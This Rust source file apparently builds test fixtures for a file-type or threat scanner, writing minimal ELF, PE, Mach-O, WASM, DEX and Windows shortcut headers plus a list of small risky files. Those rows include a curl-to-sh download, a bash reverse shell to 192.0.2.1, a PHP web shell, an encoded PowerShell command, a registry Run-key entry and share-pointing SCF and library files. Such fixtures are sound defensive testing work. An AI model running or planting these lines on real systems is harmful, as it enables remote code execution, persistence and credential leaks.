//! Programs, as far as their heads say what they are.

use super::{
    Cases,
    build::{
        Build,
        Means::{Count, Kind as Choice, Length, Offset},
    },
    defect::{Kind, ORDER},
};

const PROGRAMS: [Kind; 6] = [
    Kind::new("program", "elf", elf),
    Kind::new("program", "exe", pe),
    Kind::new("program", "macho", macho),
    Kind::new("program", "wasm", wasm),
    Kind::new("program", "dex", dex),
    Kind::new("program", "lnk", shortcut),
];

pub(super) fn make(cases: &mut Cases) {
    // A program is loud by itself: what counts is that its kind is still told when its head lies, so no more than that.
    for kind in PROGRAMS {
        let extension = kind.extension;
        let honest = Build::of(kind.write, None);
        kind.add(cases, &format!("whole-{extension}"), "a program as it should be", &honest.bytes, &honest.parts);
        kind.cuts(cases, &honest);
        if ["elf", "exe", "wasm"].contains(&extension) {
            kind.lies(cases, &honest);
        }
    }
    sources(cases);
}

fn elf(b: &mut Build) {
    b.part("elf head");
    b.raw(b"\x7fELF");
    b.le("elf class", Choice, 1, 2);
    b.le("elf order of bytes", Choice, 1, 1);
    b.raw([1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    b.le("elf type", Choice, 2, 2);
    b.raw([0x3e, 0, 1, 0, 0, 0]);
    b.zeros(8);
    b.le("elf segment table", Offset, 8, 64);
    b.le("elf section table", Offset, 8, 0);
    b.zeros(4);
    b.raw([64, 0]);
    b.le("elf segment length", Length, 2, 56);
    b.le("elf segments", Count, 2, 1);
    b.raw([64, 0]);
    b.le("elf sections", Count, 2, 0);
    b.raw([0, 0]);
    b.part("elf segment");
    b.raw([1, 0, 0, 0, 5, 0, 0, 0]);
    b.zeros(48);
}

fn pe(b: &mut Build) {
    b.part("dos head");
    b.raw(b"MZ");
    b.zeros(58);
    b.le("pe head offset", Offset, 4, 64);
    b.part("pe head");
    b.raw(b"PE\0\0");
    b.le("pe machine", Choice, 2, 0x8664);
    b.le("pe sections", Count, 2, 1);
    b.zeros(12);
    b.le("pe optional head length", Length, 2, 16);
    b.raw([0x22, 0]);
    b.part("pe optional head");
    b.raw([0x0b, 0x02]);
    b.zeros(14);
    b.part("pe section");
    b.raw(b".text\0\0\0");
    b.zeros(32);
}

fn macho(b: &mut Build) {
    b.part("macho head");
    b.raw([0xcf, 0xfa, 0xed, 0xfe]);
    b.le("macho processor", Choice, 4, 0x0100_0007);
    b.raw([3, 0, 0, 0, 2, 0, 0, 0]);
    b.le("macho commands", Count, 4, 1);
    b.le("macho length of the commands", Length, 4, 24);
    b.zeros(8);
    b.part("macho command");
    b.raw([0x1b, 0, 0, 0]);
    b.le("macho command length", Length, 4, 24);
    b.zeros(16);
}

fn wasm(b: &mut Build) {
    b.part("wasm head");
    b.raw(b"\0asm");
    b.le("wasm version", Choice, 4, 1);
    b.part("wasm section");
    b.le("wasm section number", Choice, 1, 1);
    b.le("wasm section length", Length, 1, 4);
    b.raw([1, 0x60, 0, 0]);
    b.part("wasm custom section");
    b.raw([0]);
    let name = b.says("wasm section name", "name");
    b.le("wasm custom length", Length, 1, name.len() + 1);
    b.le("wasm name length", Length, 1, name.len());
    b.raw(name);
}

fn dex(b: &mut Build) {
    b.part("dex head");
    b.raw(b"dex\n035\0");
    b.zeros(24);
    b.le("dex file size", Length, 4, 112);
    b.le("dex head size", Length, 4, 112);
    b.le("dex order of bytes", Choice, 4, 0x1234_5678);
    b.zeros(8);
    b.le("dex map offset", Offset, 4, 0);
    b.le("dex strings", Count, 4, 0);
    b.le("dex string offset", Offset, 4, 0);
    b.zeros(48);
}

fn shortcut(b: &mut Build) {
    b.part("shortcut head");
    b.le("shortcut head size", Length, 4, 0x4c);
    b.raw([1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
    b.le("shortcut flags", Choice, 4, 0xa4);
    b.zeros(52);
    b.part("shortcut texts");
    let name = b.says("shortcut name", "notes");
    b.le("shortcut name length", Length, 2, name.len());
    b.raw(String::from_utf8_lossy(&name).encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
    let arguments = b.says("shortcut arguments", "/c calc");
    b.le("shortcut arguments length", Length, 2, arguments.len());
    b.raw(String::from_utf8_lossy(&arguments).encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>());
}

fn sources(cases: &mut Cases) {
    let rows = [
        ("fetches-and-runs.sh", "a script for a shell fetches another and runs it", "#!/bin/sh\ncurl -s https://host.example/a | sh\n".to_owned()),
        ("opens-a-way-back.sh", "a script for a shell opens a way back", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n".to_owned()),
        ("runs-at-log-in.desktop", "an entry of a desktop starts a program", "[Desktop Entry]\nType=Application\nExec=sh -c id\n".to_owned()),
        ("runs-when-plugged-in.inf", "a file that old Windows runs when a disk is put in", "[autorun]\nopen=a.exe\n".to_owned()),
        ("writes-the-registry.reg", "a file that changes the registry", "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"a\"=\"a.exe\"\n".to_owned()),
        ("hidden-command.ps1", "a script for PowerShell whose command is packed", "powershell -NoProfile -EncodedCommand SQBFAFgA\n".to_owned()),
        ("page-that-serves.php", "a page that a server runs", "<?php system($_GET['c']); ?>\n".to_owned()),
        ("script-with-an-order.py", "a script whose comment is an order", format!("#!/usr/bin/env python3\n# {ORDER}\nprint(1)\n")),
        ("built-by-a-file.Dockerfile", "a recipe for a container", "FROM scratch\nRUN id\n".to_owned()),
        ("opens-a-program.scf", "a file that makes the file manager fetch a picture from a share", "[Shell]\nCommand=2\nIconFile=\\\\192.0.2.1\\share\\a.ico\n".to_owned()),
        ("opens-a-share.library-ms", "a library that leads to a share", "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\192.0.2.1\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\n".to_owned()),
        ("application-of-html.hta", "a page that Windows runs as a program", "<html><hta:application/><script>new ActiveXObject('WScript.Shell').Run('calc')</script></html>\n".to_owned()),
        ("old-script.vbs", "a script for the host of Windows", "CreateObject(\"WScript.Shell\").Run \"calc\"\n".to_owned()),
    ];
    for (name, why, text) in rows {
        cases.text("program", name, why, text);
    }
}
